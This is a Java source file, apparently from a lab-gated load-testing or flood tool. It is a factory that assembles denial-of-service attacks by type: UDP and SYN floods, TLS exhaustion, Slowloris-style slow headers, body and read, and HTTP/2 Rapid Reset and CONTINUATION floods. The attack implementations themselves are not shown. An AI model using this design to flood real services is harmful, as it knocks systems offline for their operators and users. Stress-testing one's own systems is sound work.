package dev.seawall.deploy.flood.attack;

import java.io.IOException;

/** Makes each kind of attack from its parts. Stateless. */
final class Arsenal {
    /** The kernel's least is 2,304 bytes; it doubles what it is asked for. */
    private static final int LEAST_RECEIVE_BUFFER = 1_024;

    private Arsenal() {}

    /** @param orders on which {@link LabOnly} has agreed */
    static Assault of(Orders orders, Tally tally) throws IOException {
        if (orders.kind() == Kind.UDP) {
            return new UdpFlood(orders.target(), orders.rate(), tally, System::nanoTime);
        }
        var pacer = new Pacer(orders.rate(), System::nanoTime);
        if (orders.kind() == Kind.SYN) {
            return new SynFlood(orders.target(), pacer, orders.connections(), tally, System::nanoTime);
        }
        return overConnections(orders, pacer, tally);
    }

    private static Assault overConnections(Orders orders, Pacer pacer, Tally tally) throws IOException {
        String path = orders.path();
        boolean tls = orders.tls();
        var plain = Dialer.plain(orders.target());
        var http = tls ? plain.withTls(new Tls()) : plain;
        var http2 = tls ? plain.withTls(new Tls(), "h2") : plain;
        String host = plain.authority();
        int most = orders.connections();
        return switch (orders.kind()) {
            case CONNECTIONS -> new Crowd(pacer, plain, Scripts.silent(), most, tally);
            case TLS -> new Crowd(pacer, plain.withTls(new Tls()), Scripts.done("handshake"), most, tally);
            case TLS_HALF -> new Crowd(pacer, plain, Scripts.halfHandshake(new Tls().clientHello()), most, tally);
            case HTTP -> new Crew(pacer, http, (wire, heard) -> new Requests(wire, heard, path, host), most, tally);
            case SLOW_HEADERS -> new Crowd(pacer, http, Scripts.slowHeaders(path, host, Scripts.SLOWLY), most, tally);
            case SLOW_BODY -> new Crowd(pacer, http, Scripts.slowBody(path, host, Scripts.SLOWLY), most, tally);
            case SLOW_READ ->
                new Crowd(
                        pacer,
                        http.withReceiveBuffer(LEAST_RECEIVE_BUFFER),
                        Scripts.slowRead(path, host, Scripts.SLOWLY),
                        most,
                        tally);
            case H2_RESET ->
                new Crew(pacer, http2, (wire, heard) -> new RapidReset(wire, heard, tls, path, host), most, tally);
            case H2_CONTINUATION ->
                new Crew(pacer, http2, (wire, heard) -> new EndlessHeader(wire, heard, tls, path, host), most, tally);
            case UDP, SYN -> throw new IllegalArgumentException(orders.kind() + " opens no connections");
        };
    }
}
